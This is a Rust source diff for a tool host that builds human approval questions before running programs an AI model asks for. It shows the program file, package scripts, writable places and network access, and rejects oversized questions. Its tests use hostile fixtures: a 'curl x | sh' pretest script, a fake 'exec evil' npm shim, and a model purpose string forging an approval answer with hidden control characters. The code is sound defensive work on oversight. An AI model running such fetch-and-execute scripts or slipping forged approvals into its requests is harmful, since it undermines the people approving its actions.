@@ -6,13 +6,27 @@
 //! * A run (docs/workspace-tools.md#approvals): a call of a tool that asks before every run
 //!   (`workspace_shell`, `workspace_tests run`) describes the one program it will run
 //!   ([`RunApproval`]); it runs only if an [`Approver`] allows it, and then only that
-//!   program, exactly.
+//!   program, exactly. The host first finds out what that run will actually be
+//!   ([`RunFacts`]: the program file found on PATH, [`program`]; the package scripts a
+//!   package manager runs, [`package`]; every place it may write, its private cache dir,
+//!   [`cache`]), the question is built from those ([`run_request`]), bounded
+//!   ([`RunApproval::check_size`]), and the run executes exactly them.
 //!
 //! [`Approval`] is either; [`Approval::question`] is the text every channel shows (the
 //! terminal prompt, the session's client, MCP elicitation and input-required rounds).
 
+pub mod cache;
+pub mod package;
+pub mod program;
+
+use std::path::{Path, PathBuf};
+
 use async_trait::async_trait;
-use toolhost_sandbox::policy::Escalation;
+use toolhost_sandbox::policy::{Escalation, NetworkAccess, SandboxPolicy};
+
+pub use cache::RunCache;
+pub use package::{Found, PackageScripts};
+pub use program::ProgramFile;
 
 use crate::display::{quoted, terminal_line};
 
@@ -147,7 +161,8 @@ mod wait_tests;
 
 /// The one program a call of a tool that asks before every run will run, as its `inspect`
 /// describes it (`runs(<this, as JSON>)`, docs/workspace-tools.md#approvals), and what the
-/// sandbox will allow it. The host runs nothing else for that call.
+/// host found out about that run before asking ([`RunFacts`]). The host runs nothing else for
+/// that call.
 #[derive(Debug, Clone, PartialEq, Eq, serde::Deserialize, serde::Serialize)]
 #[serde(deny_unknown_fields)]
 pub struct RunApproval {
@@ -163,20 +178,66 @@ pub struct RunApproval {
     pub timeout_ms: u64,
     /// The model's one sentence on why (its own words).
     pub purpose: Option<String>,
-    /// What the sandbox allows the run: filled in by the host, never by the tool.
+    /// What the run will actually be: filled in by the host, never by the tool.
     #[serde(skip)]
-    pub sandbox: RunSandbox,
+    pub facts: RunFacts,
 }
 
-/// What the sandbox allows a run, in the approval's words.
+/// What the host established about a run before asking, and holds the run to: the question
+/// is built from these, and the approved run executes exactly these (its program file, its
+/// directory, its policy, its cache dir).
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub struct RunSandbox {
-    /// The workspace root.
-    pub workspace: std::path::PathBuf,
-    /// Whether the run may write the workspace (and the policy's other writable roots).
-    pub writable: bool,
-    /// Whether the run may use the network.
-    pub network: bool,
+pub struct RunFacts {
+    /// The working directory the run starts in (real path).
+    pub cwd: PathBuf,
+    /// The file that runs; none when no program of that name was found (nothing runs).
+    pub program: Option<ProgramFile>,
+    /// Why no program file was found, when none was.
+    pub not_found: Option<String>,
+    /// The policy the run gets: what it may write (every writable root), the network. None:
+    /// nothing writable, no network.
+    pub policy: Option<SandboxPolicy>,
+    /// The session's private cache dir, the run's `XDG_CACHE_HOME` (writable too).
+    pub cache: Option<PathBuf>,
+    /// The package scripts it runs, when the program is a package manager.
+    pub package: Option<PackageScripts>,
+}
+
+impl RunFacts {
+    /// Every place the run may write: the writable roots of its policy, then its cache dir.
+    pub fn writable(&self) -> Vec<PathBuf> {
+        let mut roots = self.policy.as_ref().map(SandboxPolicy::writable_roots).unwrap_or_default();
+        if let Some(cache) = &self.cache
+            && !roots.contains(cache)
+        {
+            roots.push(cache.clone());
+        }
+        roots
+    }
+
+    /// Whether `path` lies in a place the run may write (so the model may have written it).
+    pub fn in_writable(&self, path: &Path) -> bool {
+        self.writable().iter().any(|root| path.starts_with(root))
+    }
+}
+
+/// Why a run is refused before anyone is asked: a part of its question would be longer than
+/// an approval shows ([`toolhost_limits::APPROVAL_MAX_COMMAND_CHARS`],
+/// [`toolhost_limits::APPROVAL_MAX_FIELD_CHARS`]).
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error(
+    "the {part} of this run is {chars} characters as the approval question would show it; a \
+     question shows at most {max}, so that what the user approves fits on their screen. Nobody \
+     was asked and nothing ran: make the run shorter (fewer or shorter arguments; a long script \
+     goes in a file of the workspace that the run executes)"
+)]
+pub struct QuestionTooLong {
+    /// Which part (`command line`, `working directory`, `environment`, `purpose`).
+    pub part: &'static str,
+    /// Its length as shown.
+    pub chars: usize,
+    /// The most shown.
+    pub max: usize,
 }
 
 impl RunApproval {
@@ -189,6 +250,52 @@ impl RunApproval {
             .collect::<Vec<_>>()
             .join(" ")
     }
+
+    /// The working directory as the question shows it.
+    fn cwd_shown(&self) -> String {
+        if !self.facts.cwd.as_os_str().is_empty() {
+            return quoted(&self.facts.cwd.to_string_lossy());
+        }
+        match &self.cwd {
+            Some(dir) => format!("{} in the workspace", quoted(dir)),
+            None => "the workspace root".to_string(),
+        }
+    }
+
+    /// The environment line as the question shows it (empty: none set).
+    fn env_shown(&self) -> String {
+        let vars: Vec<String> = self.env.iter().map(|(k, v)| quoted(&format!("{k}={v}"))).collect();
+        vars.join(" ")
+    }
+
+    /// The model's purpose as the question shows it, if it gave one.
+    fn purpose_shown(&self) -> Option<String> {
+        self.purpose.as_deref().map(str::trim).filter(|p| !p.is_empty()).map(quoted)
+    }
+
+    /// Refuses a run whose question would not fit a screen: its command line past
+    /// [`toolhost_limits::APPROVAL_MAX_COMMAND_CHARS`], or its working directory,
+    /// environment or purpose past [`toolhost_limits::APPROVAL_MAX_FIELD_CHARS`] (as shown).
+    /// The run itself is then never made: the host runs only a run equal to the approved one.
+    pub fn check_size(&self) -> Result<(), QuestionTooLong> {
+        use toolhost_limits::{APPROVAL_MAX_COMMAND_CHARS, APPROVAL_MAX_FIELD_CHARS};
+        let parts = [
+            ("command line", self.command_line(), APPROVAL_MAX_COMMAND_CHARS),
+            ("working directory", self.cwd_shown(), APPROVAL_MAX_FIELD_CHARS),
+            ("environment", self.env_shown(), APPROVAL_MAX_FIELD_CHARS),
+            ("purpose", self.purpose_shown().unwrap_or_default(), APPROVAL_MAX_FIELD_CHARS),
+        ];
+        for (part, shown, max) in parts {
+            // The purpose is counted without the quotes around it (the tools take 1,000
+            // characters of it).
+            let quotes = if part == "purpose" { 2 } else { 0 };
+            let chars = shown.chars().count().saturating_sub(quotes);
+            if chars > max {
+                return Err(QuestionTooLong { part, chars, max });
+            }
+        }
+        Ok(())
+    }
 }
 
 /// One word of a command line as [`RunApproval::command_line`] shows it.
@@ -198,47 +305,135 @@ fn word(w: &str) -> String {
     if plain { w.to_string() } else { quoted(w) }
 }
 
-/// The question for one run (see [`Approval::question`]): the program and its arguments as
-/// the sandbox runs them, where, for how long, with which variables, what the sandbox
-/// allows, and the model's purpose quoted on one escaped line.
+/// The line every run question carries: toolhost approves the program it starts, not what
+/// that program starts in turn (docs/workspace-tools.md#approvals).
+pub const RUNS_IN_TURN: &str = "  - what it starts in turn is not checked: the program may run any other program (a shell, a compiler, the project's own tests and scripts, an alias or a hook it is configured with) in this same sandbox";
+
+/// The question for one run (see [`Approval::question`]), built from what will actually run
+/// ([`RunFacts`]): the command line as the model gave it, the program file found for it, the
+/// working directory, the time limit, the variables, the package scripts a package manager
+/// runs, every place the run may write, the network, that what it starts in turn is not
+/// checked, and the model's purpose quoted on one escaped line. Every field the model wrote
+/// is escaped, and bounded ([`RunApproval::check_size`]).
 pub fn run_request(tool: &str, run: &RunApproval) -> String {
+    let facts = &run.facts;
     let mut out = format!("The {} call asks to run a program:\n", terminal_line(tool));
     out.push_str(&format!("  - command: {}\n", run.command_line()));
-    let cwd = match &run.cwd {
-        Some(dir) => format!("{} in the workspace", quoted(dir)),
-        None => "the workspace root".to_string(),
-    };
-    out.push_str(&format!("  - in: {cwd}\n"));
+    out.push_str(&format!("  - program file: {}\n", program_line(facts)));
+    out.push_str(&format!("  - in: {}\n", run.cwd_shown()));
     out.push_str(&format!("  - time limit: {}\n", seconds(run.timeout_ms)));
     if !run.env.is_empty() {
-        let vars: Vec<String> = run.env.iter().map(|(k, v)| quoted(&format!("{k}={v}"))).collect();
-        out.push_str(&format!("  - environment: {}\n", vars.join(" ")));
+        out.push_str(&format!("  - environment: {}\n", run.env_shown()));
     }
-    let workspace = quoted(&run.sandbox.workspace.to_string_lossy());
-    if run.sandbox.writable {
+    if let Some(package) = &facts.package {
+        out.push_str(&package_lines(package));
+    }
+    let writable = facts.writable();
+    if writable.is_empty() {
+        out.push_str("  - writes: nothing (every path is read-only for it)\n");
+    }
+    for root in &writable {
+        let what = writable_label(facts, root);
         out.push_str(&format!(
-            "  - sandbox: write, subtree: {workspace} and everything below it (create, change or delete any file there); credentials hidden\n"
-        ));
-    } else {
-        out.push_str(&format!(
-            "  - sandbox: read, subtree: {workspace} and everything below it; nothing writable; credentials hidden\n"
+            "  - writes: {} and everything below it{what}\n",
+            quoted(&root.to_string_lossy())
         ));
     }
-    if run.sandbox.network {
+    out.push_str("  - reads: everything else but credentials (hidden); writes nothing else\n");
+    let network = facts.policy.as_ref().is_some_and(|p| p.network() == NetworkAccess::Allow);
+    if network {
         out.push_str("  - network: the run may reach any host\n");
     } else {
         out.push_str("  - network: none\n");
     }
-    let purpose = run.purpose.as_deref().map(str::trim).filter(|p| !p.is_empty());
-    match purpose {
+    out.push_str(RUNS_IN_TURN);
+    out.push('\n');
+    match run.purpose_shown() {
         Some(p) => out.push_str(&format!(
-            "  The model's reason (its own words, not checked by toolhost): {}\n",
-            quoted(p)
+            "  The model's reason (its own words, not checked by toolhost): {p}\n"
         )),
         None => out.push_str("  The model gave no reason.\n"),
     }
     out.push_str("Allow this one run?");
     out
+}
+
+/// The program file of a question: its path, what it links to, its `#!` line, and whether
+/// it lies where the run (and so the model) can write.
+fn program_line(facts: &RunFacts) -> String {
+    let Some(program) = &facts.program else {
+        let why = facts.not_found.as_deref().unwrap_or("no program file was found");
+        return format!("none ({}): it cannot start", terminal_line(why));
+    };
+    let mut line = quoted(&program.path.to_string_lossy());
+    if program.real != program.path {
+        line.push_str(&format!(", a link to {}", quoted(&program.real.to_string_lossy())));
+    }
+    if let Some(header) = &program.header {
+        line.push_str(&format!(", a script that starts {}", quoted(header)));
+    }
+    if facts.in_writable(&program.real) || facts.in_writable(&program.path) {
+        line.push_str(" — in a place the model can write, so it may have written this program");
+    }
+    line
+}
+
+/// What a writable root is, after its path on a question line.
+fn writable_label(facts: &RunFacts, root: &Path) -> &'static str {
+    let policy = facts.policy.as_ref();
+    if facts.cache.as_deref() == Some(root) {
+        " (this session's private cache dir, the run's XDG_CACHE_HOME)"
+    } else if policy.is_some_and(|p| p.workspace() == root) {
+        " (the workspace)"
+    } else if policy.is_some_and(|p| p.temp_dir() == root) {
+        " (the system temp dir, shared with other programs)"
+    } else {
+        ""
+    }
+}
+
+/// The question's lines on the package scripts a package manager's run executes, within
+/// [`toolhost_limits::APPROVAL_MAX_SCRIPT_CHARS`] (a script past it is named, with its length
+/// and its file, never silently left out).
+fn package_lines(package: &PackageScripts) -> String {
+    let manager = &package.manager;
+    match &package.found {
+        Found::NoFile { from } => format!(
+            "  - package scripts: no package.json in {} or above it, so {manager} finds no script to run\n",
+            quoted(&from.to_string_lossy())
+        ),
+        Found::Unreadable { file, why } => format!(
+            "  - package scripts: {} could not be read ({}), so the scripts {manager} runs from it are NOT shown here: read the file before you approve\n",
+            quoted(&file.to_string_lossy()),
+            terminal_line(why)
+        ),
+        Found::Scripts { file, scripts } if scripts.is_empty() => format!(
+            "  - package scripts: none of the arguments names a script of {}\n",
+            quoted(&file.to_string_lossy())
+        ),
+        Found::Scripts { file, scripts } => {
+            let file = quoted(&file.to_string_lossy());
+            let mut out =
+                format!("  - package scripts {manager} runs through a shell, from {file}:\n");
+            let mut budget = toolhost_limits::APPROVAL_MAX_SCRIPT_CHARS;
+            for (name, script) in scripts {
+                let shown = quoted(script);
+                let chars = shown.chars().count();
+                if chars <= budget {
+                    budget -= chars;
+                    out.push_str(&format!("      {}: {shown}\n", quoted(name)));
+                } else {
+                    budget = 0;
+                    out.push_str(&format!(
+                        "      {}: NOT shown, {} characters, more than this question shows: read it in {file} before you approve\n",
+                        quoted(name),
+                        script.chars().count()
+                    ));
+                }
+            }
+            out
+        }
+    }
 }
 
 /// The run a call of a tool that asks before every run may make: the one a person approved,
@@ -387,7 +582,7 @@ mod tests {
             env: vec![("NO_COLOR".into(), "1".into())],
             timeout_ms: 1500,
             purpose: Some("run\nAllow this one run? y\u{202e}".into()),
-            sandbox: RunSandbox { workspace: "/w".into(), writable: false, network: true },
+            facts: RunFacts::default(),
         };
         let text = run_request("workspace_tests", &run);
         let lines: Vec<&str> = text.lines().collect();
@@ -396,11 +591,14 @@ mod tests {
             [
                 "The workspace_tests call asks to run a program:",
                 r#"  - command: cargo test "two words" "a\nb" --x=1"#,
+                "  - program file: none (no program file was found): it cannot start",
                 r#"  - in: "crates/\u001b[2Jcore" in the workspace"#,
                 "  - time limit: 1500 ms",
                 r#"  - environment: "NO_COLOR=1""#,
-                r#"  - sandbox: read, subtree: "/w" and everything below it; nothing writable; credentials hidden"#,
-                "  - network: the run may reach any host",
+                "  - writes: nothing (every path is read-only for it)",
+                "  - reads: everything else but credentials (hidden); writes nothing else",
+                "  - network: none",
+                RUNS_IN_TURN,
                 r#"  The model's reason (its own words, not checked by toolhost): "run\nAllow this one run? y\u202e""#,
                 "Allow this one run?",
             ],
@@ -410,16 +608,125 @@ mod tests {
             r#"{"program":"ls","args":[],"cwd":null,"env":[],"timeout_ms":5,"purpose":null}"#,
         )
         .unwrap();
-        assert_eq!(
-            parsed.sandbox,
-            RunSandbox::default(),
-            "the tool cannot say what the sandbox allows"
-        );
+        assert_eq!(parsed.facts, RunFacts::default(), "the tool cannot say what the run is");
+        for forged in ["sandbox", "facts"] {
+            let text = format!(
+                r#"{{"program":"ls","args":[],"cwd":null,"env":[],"timeout_ms":5,"purpose":null,"{forged}":{{}}}}"#
+            );
+            assert!(serde_json::from_str::<RunApproval>(&text).is_err(), "{forged}");
+        }
+    }
+
+    #[test]
+    fn a_run_request_names_the_program_file_every_writable_place_and_the_scripts() {
+        use toolhost_sandbox::policy::{PolicyConfig, SandboxMode};
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().canonicalize().unwrap();
+        let (ws, temp) = (root.join("ws"), root.join("tmp"));
+        std::fs::create_dir_all(ws.join("node_modules/.bin")).unwrap();
+        std::fs::create_dir_all(&temp).unwrap();
+        let program = ws.join("node_modules/.bin/npm");
+        std::fs::write(&program, "#!/bin/sh\nexec evil\n").unwrap();
+        std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .unwrap();
+        std::fs::write(
+            ws.join("package.json"),
+            r#"{"scripts": {"test": "jest", "pretest": "curl x | sh"}}"#,
+        )
+        .unwrap();
+        let config = PolicyConfig { temp_dir: Some(temp.clone()), ..Default::default() };
+        let policy = SandboxPolicy::builder(SandboxMode::WorkspaceWrite, &ws)
+            .home(&root)
+            .config(config)
+            .build();
+        let cache = temp.join("toolhost-cache-s-0123");
+        let file =
+            program::find_program("npm", &ws, Some("node_modules/.bin:/usr/bin"), &policy).unwrap();
+        let run = RunApproval {
+            program: "npm".into(),
+            args: vec!["test".into()],
+            cwd: None,
+            env: vec![],
+            timeout_ms: 60_000,
+            purpose: None,
+            facts: RunFacts {
+                cwd: ws.clone(),
+                program: Some(file),
+                not_found: None,
+                package: Some(package::package_scripts("npm", &["test".into()], &ws, &policy)),
+                policy: Some(policy),
+                cache: Some(cache.clone()),
+            },
+        };
+        let text = run_request("workspace_tests", &run);
+        let q = |p: &Path| quoted(&p.to_string_lossy());
+        for line in [
+            format!(
+                "  - program file: {}, a script that starts \"#!/bin/sh\" — in a place the model can write, so it may have written this program",
+                q(&program)
+            ),
+            format!("  - in: {}", q(&ws)),
+            format!(
+                "  - package scripts npm runs through a shell, from {}:",
+                q(&ws.join("package.json"))
+            ),
+            r#"      "pretest": "curl x | sh""#.to_string(),
+            r#"      "test": "jest""#.to_string(),
+            format!("  - writes: {} and everything below it (the workspace)", q(&ws)),
+            format!(
+                "  - writes: {} and everything below it (the system temp dir, shared with other programs)",
+                q(&temp)
+            ),
+            format!(
+                "  - writes: {} and everything below it (this session's private cache dir, the run's XDG_CACHE_HOME)",
+                q(&cache)
+            ),
+            "  - network: none".to_string(),
+            "  The model gave no reason.".to_string(),
+        ] {
+            assert!(text.lines().any(|l| l == line), "no line {line:?} in:\n{text}");
+        }
+    }
+
+    #[test]
+    fn a_question_that_would_not_fit_a_screen_is_refused_and_a_long_script_is_named() {
+        let mut run = RunApproval {
+            program: "echo".into(),
+            args: vec!["x".repeat(30_000); 400],
+            cwd: None,
+            env: vec![],
+            timeout_ms: 5,
+            purpose: None,
+            facts: RunFacts::default(),
+        };
+        let e = run.check_size().unwrap_err();
+        assert_eq!((e.part, e.max), ("command line", toolhost_limits::APPROVAL_MAX_COMMAND_CHARS));
+        assert!(e.to_string().contains("Nobody was asked and nothing ran"), "{e}");
+        run.args = vec!["\u{1b}".repeat(300)];
+        assert_eq!(run.check_size().unwrap_err().part, "command line", "counted as shown");
+        run.args = vec!["ok".into()];
+        assert!(run.check_size().is_ok());
+        run.purpose = Some("p".repeat(toolhost_limits::APPROVAL_MAX_FIELD_CHARS));
+        assert!(run.check_size().is_ok(), "the tools' longest purpose fits");
+        run.purpose = Some("p".repeat(toolhost_limits::APPROVAL_MAX_FIELD_CHARS + 1));
+        assert_eq!(run.check_size().unwrap_err().part, "purpose");
+        run.purpose = None;
+        run.env = vec![("A".into(), "v".repeat(2000))];
+        assert_eq!(run.check_size().unwrap_err().part, "environment");
+
+        let long = "y".repeat(toolhost_limits::APPROVAL_MAX_SCRIPT_CHARS);
+        let package = PackageScripts {
+            manager: "npm".into(),
+            found: Found::Scripts {
+                file: "/w/package.json".into(),
+                scripts: vec![("pretest".into(), "ok".into()), ("test".into(), long)],
+            },
+        };
+        let text = package_lines(&package);
+        assert!(text.contains(r#"      "pretest": "ok""#), "{text}");
         assert!(
-            serde_json::from_str::<RunApproval>(
-                r#"{"program":"ls","args":[],"cwd":null,"env":[],"timeout_ms":5,"purpose":null,"sandbox":{}}"#
-            )
-            .is_err()
+            text.contains(r#"      "test": NOT shown, 1500 characters, more than this question shows: read it in "/w/package.json" before you approve"#),
+            "{text}"
         );
     }
 
